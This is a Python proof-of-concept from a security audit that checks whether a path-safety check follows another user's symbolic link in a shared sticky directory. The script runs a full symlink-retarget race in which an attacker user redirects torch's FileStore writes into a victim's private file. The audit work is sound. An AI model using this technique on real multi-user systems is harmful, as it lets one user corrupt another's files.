"""PoC: safe_files.dir_problem follows links (os.stat) and never asks who owns a
link on the way, so a path through a symbolic link planted by another user in a
sticky shared directory passes the check; torch's FileStore then reopens the
literal path at every operation, and the link's owner retargets it.

Run as root (it switches users with setpriv): victim uid 4001, attacker uid 4002,
both in group 4100. T is a shared team directory root:4100 mode 1770 (sticky,
group-writable: allowed by the check; fs.protected_symlinks never covers it
since it is not world-writable). V is the victim's private 0700 directory with
a file V/precious.

1. attacker: ln -s V T/run             (T/run is the attacker's link to the victim's dir)
2. victim:  make_store("file://T/run/store")  -> own_store_file accepts it
3. attacker: T/run -> A (attacker's dir) where A/store -> V/precious
4. victim:  store.set(...)  (torch reopens T/run/store)

FAIL (defect) when step 2 accepts the path and step 4 writes store records into
V/precious. PASS when step 2 refuses the path (or nothing reaches V/precious).
The victim's python gets CAP_DAC_READ_SEARCH only to reach the interpreter
under /root (0700); it bypasses no write permission and no link rule.
Run: timeout 120 python audit/poc_safe_files_symlink_component.py
"""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile

PY = sys.executable
VICTIM, ATTACKER, TEAM = 4001, 4002, 4100
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def as_user(uid, argv, caps=False, timeout=60):
    cmd = ["setpriv", f"--reuid={uid}", f"--regid={uid}", f"--groups={TEAM}"]
    if caps:
        cmd += ["--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search"]
    env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": REPO, "DISTGRAD_PURE": "1",
           "OMP_NUM_THREADS": "1"}
    return subprocess.run(cmd + argv, capture_output=True, text=True, timeout=timeout, env=env)


VICTIM_STEP2 = r"""
import sys
from distgrad.launch.rendezvous import make_store
try:
    s = make_store("file://" + sys.argv[1], 0, 1, 10.0)
except Exception as e:
    print("REFUSED", type(e).__name__, e); sys.exit(3)
s.set("first", "before-retarget")
print("ACCEPTED")
import time, os
open(sys.argv[2], "w").close()            # tell the harness: retarget now
while not os.path.exists(sys.argv[3]): time.sleep(0.05)
s.set("DISTGRAD-STORE-RECORD", "written-after-retarget")
print("WROTE")
"""


def main():
    if os.geteuid() != 0:
        print("SKIP: needs root to switch users")
        return 2
    base = tempfile.mkdtemp(prefix="poc-sf-")
    os.chmod(base, 0o755)
    team, victim, att = (os.path.join(base, n) for n in ("team", "victim", "attacker"))
    os.mkdir(team)
    os.chown(team, 0, TEAM)
    os.chmod(team, 0o1770)
    os.mkdir(victim)
    os.chown(victim, VICTIM, VICTIM)
    os.chmod(victim, 0o700)
    precious = os.path.join(victim, "precious")
    with open(precious, "w") as f:
        f.write("victim's own data\n")
    os.chown(precious, VICTIM, VICTIM)
    os.chmod(precious, 0o600)
    os.mkdir(att)
    os.chown(att, ATTACKER, ATTACKER)
    os.chmod(att, 0o755)
    run = os.path.join(team, "run")
    sig = os.path.join(base, "sig")
    os.mkdir(sig)
    os.chmod(sig, 0o1777)
    go, ready = os.path.join(sig, "go"), os.path.join(sig, "ready")
    proc = None
    try:
        r = as_user(ATTACKER, ["ln", "-s", victim, run])          # 1
        assert r.returncode == 0, r.stderr
        cmd = ["setpriv", f"--reuid={VICTIM}", f"--regid={VICTIM}", f"--groups={TEAM}",
               "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search",
               PY, "-c", VICTIM_STEP2, os.path.join(run, "store"), ready, go]
        env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": REPO, "DISTGRAD_PURE": "1",
               "OMP_NUM_THREADS": "1"}
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                env=env)
        import time
        end = time.monotonic() + 90
        while not os.path.exists(ready) and proc.poll() is None and time.monotonic() < end:
            time.sleep(0.05)
        if not os.path.exists(ready):
            out, err = proc.communicate(timeout=30)
            print("victim:", out.strip(), err.strip()[-500:])
            print("PASS: the path through another user's link was refused" if "REFUSED" in out
                  else "ERROR: victim did not get ready")
            return 0 if "REFUSED" in out else 2
        before = open(precious).read()
        # 3: the link's owner retargets it (a new link renamed over the old one)
        r = as_user(ATTACKER, ["sh", "-c", f"ln -s {precious} {att}/store && "
                                           f"ln -s {att} {run}.new && mv -T {run}.new {run}"])
        assert r.returncode == 0, r.stderr
        open(go, "w").close()
        try:
            out, err = proc.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            out, err = proc.communicate()
            out += " (victim hung in torch's FileStore after the retarget: killed)"
        after = open(precious, "rb").read()
        print("victim:", out.strip().replace("\n", " | "))
        print("V/precious before:", repr(before))
        print("V/precious after: ", repr(after[:200]), f"({len(after)} bytes)")
        if "ACCEPTED" in out and b"DISTGRAD-STORE-RECORD" in after:
            print("FAIL: own_store_file accepted a path through another user's link "
                  "(dir_problem uses os.stat, never lstat); after the link was retargeted, "
                  "torch's FileStore wrote store records into the victim's private file")
            return 1
        print("PASS: nothing reached V/precious")
        return 0
    finally:
        if proc is not None and proc.poll() is None:
            proc.kill()
            proc.wait()
        shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
